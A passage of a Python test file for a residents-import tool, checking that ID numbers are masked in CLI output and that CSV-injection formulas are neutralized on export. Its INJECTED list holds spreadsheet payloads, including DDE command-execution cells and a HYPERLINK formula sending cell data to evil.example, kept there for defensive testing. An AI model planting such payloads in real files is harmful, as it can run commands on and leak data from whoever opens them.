    assert "流感" not in problem and "乙" not in problem  # not the failing row's DETAIL
    assert await table_counts(pool) == before


async def test_import_through_the_cli(district: District, cli_env: dict[str, str],
                                      tmp_path: Path) -> None:
    bad = write_csv(tmp_path, name="bad.csv", text="\n".join([
        RESIDENTS_HEADER, resident(OLD_MAN, "13830000001"), resident(BAD_CHECK, "1383000000"),
    ]))
    result = run_cli(cli_env, "import", "residents", str(bad))
    assert result.returncode == 2, result.stderr
    assert f"{bad}: rejected, nothing was imported" in result.stderr
    assert f"line 3: ID number {mask_id_number(BAD_CHECK)}: check digit is wrong" in result.stderr
    assert "line 3: " in result.stderr and "'********00'" in result.stderr
    assert "Traceback" not in result.stderr
    output = result.stdout + result.stderr
    for secret in (OLD_MAN, BAD_CHECK, "13830000001", "1383000000"):
        assert secret not in output

    good = write_csv(tmp_path, name="good.csv", bom=True, text="\n".join([
        RESIDENTS_HEADER, resident(OLD_MAN, "13830000001"), resident(MOTHER, "13830000002"),
    ]))
    result = run_cli(cli_env, "import", "residents", str(good))
    assert result.returncode == 0, result.stderr
    assert f"imported 2 residents from {good}" in result.stdout
    # the JSON log of a successful import names the file and the count, never a person's number
    assert '"event": "import.done"' in result.stderr and '"rows": 2' in result.stderr
    for secret in (OLD_MAN, MOTHER, "13830000001", "13830000002"):
        assert secret not in result.stdout + result.stderr


# --- formulas in cells (CSV injection, issue 9 reproduction 13) ---------------------------------

# What an attacker types into a sheet a district will import, and later export and open in Excel.
# (Names are taken whole; conditions are split at ; , / and the like, so those hold short ones.)
INJECTED = [
    ("=cmd|' /C calc'!A0", ["+1+1", "-2+3"]),
    ('=HYPERLINK("http://evil.example/?d="&A1,"点我")', ["@SUM(1+1)*cmd|' -C calc'!A0"]),
]


async def test_formulas_are_stored_as_text_and_neutralized_on_the_way_out(
    district: District, pool: asyncpg.Pool, vault: PiiVault, tmp_path: Path
) -> None:
    import csv
    import io

    import openpyxl

    from store.spreadsheet import csv_writer, safe_cell

    def quoted(text: str) -> str:
        return '"' + text.replace('"', '""') + '"'

    path = write_csv(tmp_path, text="name,id_number,phones,center,conditions\n" + "".join(
        f"{quoted(name)},{number},+86138300000{i:02d},测试街,{quoted(';'.join(conditions))}\n"
        for i, ((name, conditions), number) in enumerate(zip(INJECTED, [OLD_MAN, MOTHER], strict=True))))
    assert await import_file(pool, vault, "residents", path) == 2
    directory = Directory(pool, vault)
    for i, (name, conditions) in enumerate(INJECTED):
        # stored unchanged, as text; the +86 phone is a phone, normalized, not a formula
        (view,) = await directory.show_residents(f"138300000{i:02d}", actor="test", reason="export",
                                                 on=date(2026, 11, 23))
        assert view.name == name and sorted(view.conditions) == sorted(conditions)

        # on the way out to a spreadsheet each is text again: a leading apostrophe
        row = [view.name, *view.conditions, *view.phones, -5, 3.5, None]
        out = io.StringIO(newline="")
        csv_writer(out).writerow(row)
        (written,) = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
        texts = len(conditions) + 1
        assert written[:texts] == ["'" + v for v in [view.name, *view.conditions]]
        assert written[texts:] == [f"138300000{i:02d}", "-5", "3.5", ""]  # numbers stay numbers

        # the same function for a workbook: openpyxl makes every "=…" string a formula otherwise
        workbook = openpyxl.Workbook()
        workbook.active.append([safe_cell(v) for v in row])
        workbook.save(tmp_path / "export.xlsx")
        cells = next(openpyxl.load_workbook(tmp_path / "export.xlsx").active.iter_rows())
        assert all(c.data_type != "f" for c in cells)
        assert cells[0].value == "'" + name


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("+8613800000001", "'+8613800000001"),
    ("张桂兰", "张桂兰"), ("a=b", "a=b"), ("", ""), (None, ""), (-5, "-5"), (2.5, "2.5"), (True, "TRUE"),
    (date(2026, 1, 5), "2026-01-05"),
])
def test_safe_cell(value: Any, cell: str) -> None:
    from store.spreadsheet import safe_cell

    assert safe_cell(value) == cell
